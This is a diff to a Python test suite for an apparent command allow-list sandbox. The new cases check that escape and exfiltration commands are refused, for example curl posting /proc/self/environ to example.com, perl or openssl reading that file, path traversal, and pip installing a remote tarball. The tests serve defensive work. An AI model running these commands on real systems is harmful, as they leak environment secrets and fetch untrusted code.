@@ -19,7 +19,7 @@ MARK = "/tmp/rt-marker/pwned"
 PROGRAMS = [
     "awk", "gawk", "sqlite3", "perl", "python3", "curl", "openssl", "sotruss", "memusage",
     "dpkg-architecture", "debconf-apt-progress", "gpg-connect-agent", "git-shell", "git", "make",
-    "xxd", "wget", "sed", "docker", "systemctl", "journalctl", "cat",
+    "xxd", "wget", "sed", "docker", "systemctl", "journalctl", "cat", "bash",
 ]  # fmt: skip
 
 
@@ -199,9 +199,32 @@ def test_ordinary_environment_values_still_pass(env: dict[str, str]) -> None:
         ("curl -d @/proc/self/environ https://example.com", ["curl"]),
         ("perl /dev/fd/0", ["perl"]),
         ("sed -n p /proc/thread-self/environ", ["sed"]),
+        ("perl -x/proc/self/environ", ["perl"]),
+        ("openssl enc -pass file:/proc/self/environ", ["openssl"]),
+        ("cat ../../../proc/self/environ", ["cat"]),
     ],
 )
 def test_process_files_are_refused_as_arguments(command: str, allowed: list[str], search_path: str) -> None:
+    assert is_refused(command, allowed, search_path)
+
+
+def test_system_wide_proc_files_still_pass(search_path: str) -> None:
+    passes("cat /proc/loadavg", ["cat"], search_path)
+    passes("cat /proc/meminfo", ["cat"], search_path)
+
+
+@pytest.mark.parametrize(
+    "command, allowed",
+    [
+        (f"perl /usr/bin/debconf-apt-progress -- touch {MARK}", ["perl"]),
+        (f"bash /usr/bin/xvfb-run touch {MARK}", ["bash"]),
+        ("python3 /usr/bin/pip3 install https://example.com/x.tar.gz", ["python3"]),
+        (f"python3 /usr/local/bin/../bin/pdb3 {MARK}", ["python3"]),
+    ],
+)
+def test_interpreters_do_not_run_installed_programs(
+    command: str, allowed: list[str], search_path: str
+) -> None:
     assert is_refused(command, allowed, search_path)
 
 
@@ -268,6 +291,8 @@ OPENSSL_DOUBLE_DASH = [
     "openssl req --config /proc/self/environ",
     "openssl dgst --engine x",
     "openssl dgst --provider-path /tmp --provider x",
+    "openssl rehash /tmp/x",
+    "openssl srp -srpvfile /tmp/x -add u",
 ]
 
 
@@ -313,6 +338,7 @@ def test_git_cannot_clone_then_run_the_clone(search_path: str) -> None:
     assert is_refused("git --git-dir=/tmp/clone/evil ls-remote ssh://127.0.0.1/x", ["git"], search_path)
     assert is_refused("git -C clone/evil status", ["git"], search_path)
     assert is_refused("git --work-tree=/tmp/clone status", ["git"], search_path)
+    assert is_refused("git --bare ls-remote ssh://127.0.0.1/x", ["git"], search_path)
     assert is_refused("git clone https://example.com/x.git ../x", ["git"], search_path)
     assert is_refused("git clone --separate-git-dir=/tmp/g https://example.com/x.git", ["git"], search_path)
     passes("git clone https://example.com/x.git", ["git"], search_path)
